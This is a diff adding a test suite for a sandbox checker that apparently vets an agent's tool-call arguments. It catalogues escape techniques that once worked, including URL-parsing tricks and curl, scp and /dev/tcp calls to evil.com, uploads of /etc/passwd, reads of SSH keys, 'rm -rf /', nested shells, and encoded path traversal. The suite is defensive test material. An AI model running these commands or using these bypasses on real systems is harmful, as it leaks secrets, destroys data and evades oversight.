@@ -1,0 +1,155 @@
+// Ways out of a sandbox that once worked, each with the name of the way.
+import { describe, expect, it } from 'vitest';
+import { leaves } from './sandboxes.ts';
+
+const paths = 'within: [/w]';
+const hosts = 'allows: {domains: [allowed.com, "*.allowed.com"]}';
+
+describe('a URL does not leave by', () => {
+  it.each([
+    ['a quote before the @', { url: "https://allowed.com'@evil.com/" }],
+    ['an angle before the @', { url: 'https://allowed.com<@evil.com/' }],
+    ['a backslash before the @', { url: 'https://allowed.com\\@evil.com/' }],
+    ['a second @', { url: 'https://a@evil.com@allowed.com/' }],
+    ['one slash', { url: 'https:/evil.com' }],
+    ['no slash', { url: 'https:evil.com' }],
+    ['backslashes', { url: 'https:\\\\evil.com' }],
+    ['a file URL', { url: 'file:///etc/passwd' }],
+    ['a comma list', { url: 'https://allowed.com,https://evil.com' }],
+    ['a comma list of whole URLs', { urls: 'https://allowed.com/,https://evil.com/' }],
+    ['a list with semicolons', { url: 'https://allowed.com/;https://evil.com/' }],
+    ['a newline in it', { url: 'https://allowed.com\n@evil.com/' }],
+    ['no scheme', { url: 'evil.com/x' }],
+    ['a relative scheme', { url: '//evil.com/x' }],
+    ['a port that looks like a scheme', { host: 'evil.com:8080' }],
+    ['a name without a host', { url: 'nothing here' }],
+    ['an unusual name', { webhook_uri: 'https:/evil.com' }],
+    ['a name that says nothing', { x: 'https:\\evil.com' }],
+    ['a remote of git', { repo: 'git@evil.com:x/y' }],
+    ['a list', { urls: ['https://allowed.com', 'https://evil.com'] }],
+    ['a mapping', { url: { value: 'evil.com' } }],
+    ['a command', { command: 'curl https:/evil.com' }],
+    ['a host in a command', { command: 'curl evil.com/x' }],
+    ['a remote in a command', { command: 'git clone git@evil.com:x/y' }],
+    ['a copy to a host', { command: 'scp a.txt user@evil.com:/x' }],
+    ['a proxy', { command: 'curl -x evil.com:80 https://allowed.com/' }],
+    [
+      'another address for a name',
+      { command: 'curl --resolve allowed.com:443:6.6.6.6 https://allowed.com/' },
+    ],
+    ['a host behind an option', { command: 'curl -so out.txt evil.com' }],
+    ['a program in front', { command: 'sudo timeout 5 curl evil.com' }],
+    ["bash's sockets", { command: 'cat </dev/tcp/evil.com/80' }],
+  ])('%s', (_way, args) => {
+    expect(leaves(hosts, args)).toBe(true);
+  });
+});
+
+describe('a command does not leave by', () => {
+  it.each([
+    ['a redirection without a blank', 'echo x>/outside'],
+    ['a redirection behind a dash', 'cat -</etc/hostname'],
+    ['an appending redirection', 'echo x >>/outside'],
+    ['a redirection of both streams', 'echo x &>/outside'],
+    ['a redirection to a descriptor that is a file', 'echo x >&/outside'],
+    ['positional parameters', 'cat $@/etc/hostname'],
+    ['a brace list', 'cat {/etc/hostname,}'],
+    ['a brace sequence', 'cat /{d..f}tc/passwd'],
+    ['braces in braces', 'cat /{x,{e,f}tc}/passwd'],
+    ['braces that hide dots', 'cat .{.,}/.{.,}/etc/passwd'],
+    ['more braces than are expanded', 'cat {1..1000}'],
+    ['a value behind the letter of an option', 'grep -f/etc/passwd x'],
+    ['a value behind a cluster of letters', 'tar -xzf/etc/x'],
+    ['a value behind an @', 'curl -d@/etc/passwd https://allowed.com'],
+    ['a form field that is a file', "curl -F 'x=@/etc/passwd' https://allowed.com"],
+    ['a form field that reads a file', "curl -F 'x=</etc/passwd' https://allowed.com"],
+    ['HOME', 'cat $HOME/.ssh/id_rsa'],
+    ['HOME alone', 'ls $HOME'],
+    ['OLDPWD', 'cat $OLDPWD/x'],
+    ['a variable in double quotes', 'cat "$HOME/x"'],
+    ['a variable behind a line continuation', 'cat $\\\nHOME/x'],
+    ['a wildcard that matches dots', 'cat .?/.?/etc/passwd'],
+    ['a star behind a dot', 'cat .*/.*/etc/passwd'],
+    ['a glob at the root', 'cat /e*/passwd'],
+    ['a glob that climbs', 'cat */../../etc/passwd'],
+    ['a home folder', 'cat ~/.ssh/id_rsa'],
+    ["somebody else's home folder", 'cat ~root/.ssh/id_rsa'],
+    ['the last folder', 'cat ~-/x'],
+    ['a home folder behind an assignment', 'HOME=~root/x ls'],
+    ['quotes within a word', 'cat /e"t"c/passwd'],
+    ['a backslash within a word', 'cat /\\etc/passwd'],
+    ['a quoted path', "cat '/etc/passwd'"],
+    ['a file URL', 'curl file:///etc/passwd'],
+    ['a second command', 'ls; cat x'],
+    ['a second line', 'ls\ncat x'],
+    ['a comment that ends', "ls # it's\ncat /etc/passwd"],
+    ['a comment to a program that knows none', 'cat # /etc/passwd'],
+    ['a group', '(cat /etc/passwd)'],
+    ['a shell in it', "sh -c 'cat /etc/passwd'"],
+    ['a login shell in it', "bash -lc 'cat /etc/passwd'"],
+    ['a shell behind another program', 'timeout 5 bash -c "cat /etc/passwd"'],
+    ['shells within shells', `bash -c "sh -c 'cat /etc/passwd'"`],
+    ['eval', "eval 'cat /etc/passwd'"],
+    ['trap', "trap 'cat /etc/passwd' EXIT"],
+    ['a NUL', 'cat a\0/etc/passwd'],
+    ['an open quote', "cat 'a"],
+    ['a percent-encoded climb', 'curl x/%2e%2e/%2e%2e/etc/passwd'],
+    ['what a shell without &> runs', 'ls &>/dev/null cat /w/a'],
+  ])('%s', (_way, command) => {
+    expect(leaves(paths, { command })).toBe(true);
+  });
+
+  it('a list of words that a shell in it would read', () => {
+    expect(leaves(paths, { command: ['bash', '-c', 'cat /etc/passwd'] })).toBe(true);
+    expect(leaves(paths, { command: 'bash', args: ['-c', 'cat /etc/passwd'] })).toBe(true);
+    expect(leaves(paths, { command: 'cat', args: ['-n', '/etc/passwd'] })).toBe(true);
+  });
+
+  it('writing, where no folder is named', () => {
+    const commands = 'allows: {commands: [echo, cat]}';
+    expect(leaves(commands, { command: 'echo x > y' })).toBe(true);
+    expect(leaves(commands, { command: 'cat x <> y' })).toBe(true);
+    expect(leaves(commands, { command: 'cat < y' })).toBe(false);
+    expect(leaves(commands, { command: 'echo x 2>&1 >/dev/null' })).toBe(false);
+  });
+});
+
+describe('an argument does not leave by', () => {
+  it.each([
+    ['another name', { filename: '../../etc/passwd' }],
+    ['a list', { paths: ['a', '../../etc/passwd'] }],
+    ['a URI', { uri: 'file:///etc/passwd' }],
+    ['a name for commands', { cmd: 'rm -rf /' }],
+    ['a list of commands', { commands: ['ls', 'rm -rf /'] }],
+    ['percent-encoding', { path: '%2e%2e/etc/passwd' }],
+    ['percent-encoding twice over', { path: '%252e%252e/etc/passwd' }],
+    ['percent-encoding of all', { x: '%2Fetc%2Fpasswd' }],
+    ['a NUL', { path: '/w/a\0' }],
+    ['an encoded NUL', { path: '/w/a%00.txt' }],
+    ['depth', JSON.parse(`${'{"a":'.repeat(40)}"/etc/passwd"${'}'.repeat(40)}`)],
+    ['depth that is not judged', JSON.parse(`${'{"a":'.repeat(100)}1${'}'.repeat(100)}`)],
+    ['a crowd', { x: Array.from({ length: 10_001 }, () => 'a') }],
+    ['the name of a field', { files: { '/etc/passwd': 'x' } }],
+    ['blanks around it', { path: ' /etc/passwd' }],
+    ['a newline behind it', { x: '/etc/passwd\n' }],
+    ['backslashes', { path: '..\\..\\etc\\passwd' }],
+    ['a drive', { x: 'C:\\Windows' }],
+    ['a file URL with one slash', { x: 'file:/etc/passwd' }],
+    ['a climb in the middle', { x: 'a/../../etc/passwd' }],
+    ["somebody else's home folder", { x: '~root/.ssh' }],
+    ['a mapping that is no plain object', { x: new Map([['a', '/etc/passwd']]) }],
+    ['a set', { path: new Set(['/etc/passwd']) }],
+    ['bytes', { path: new TextEncoder().encode('/etc/passwd') }],
+    ['the folder the command runs in', { command: 'cat passwd', cwd: '/etc' }],
+    ['a folder that only the shell takes for granted', { command: 'cat ../../x', cwd: '/w/a/b' }],
+  ])('%s', (_way, args) => {
+    expect(leaves(paths, args)).toBe(true);
+  });
+
+  it('hiding the command under a name nobody knows', () => {
+    const commands = 'allows: {commands: [ls]}';
+    expect(leaves(commands, { input: 'rm -rf /' }, { tool: 'shell', tools: 'shell' })).toBe(true);
+    expect(leaves(commands, {}, { tool: 'shell', tools: 'shell' })).toBe(true);
+    expect(leaves(commands, {}, { tool: 'clock', tools: '"*"' })).toBe(false);
+  });
+});
